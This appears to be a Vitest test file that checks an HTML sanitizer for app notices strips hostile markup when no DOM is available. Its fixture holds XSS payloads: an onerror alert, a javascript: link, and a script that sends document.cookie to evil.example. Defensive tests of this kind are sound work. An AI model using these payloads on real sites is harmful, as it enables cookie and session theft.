import { describe, expect, it } from 'vitest'
import { sanitizeNoticeHtml } from './notice-html'

/** Notice 1039 of the seeded world: pasted from an outside editor with hostile markup. */
const HOSTILE =
  '<p>앱을 새 버전으로 업데이트하면 가족 계정 전환이 더 빨라집니다.</p>' +
  '<img src="x" onerror="alert(\'xss\')"><script>document.location=\'https://evil.example/?c=\'+document.cookie</script>' +
  '<a href="javascript:alert(1)">업데이트 하러 가기</a>'

// Node has no DOM: the sanitizer must fail closed (text only). The same notice is checked with
// DOMPurify in Chromium by notice-html.browser.test.tsx and the NoticeDetail story.
describe('sanitizeNoticeHtml without a DOM', () => {
  it('keeps only the text, escaped', () => {
    const safe = sanitizeNoticeHtml(HOSTILE)
    expect(safe).toBe('앱을 새 버전으로 업데이트하면 가족 계정 전환이 더 빨라집니다. 업데이트 하러 가기')
    expect(safe).not.toMatch(/[<>]/)
    expect(safe).not.toContain('document.cookie')
  })

  it('escapes what would read as markup', () => {
    expect(sanitizeNoticeHtml('<p>"quoted" & 5 > 3</p>')).toBe('&quot;quoted&quot; &amp; 5 &gt; 3')
  })
})
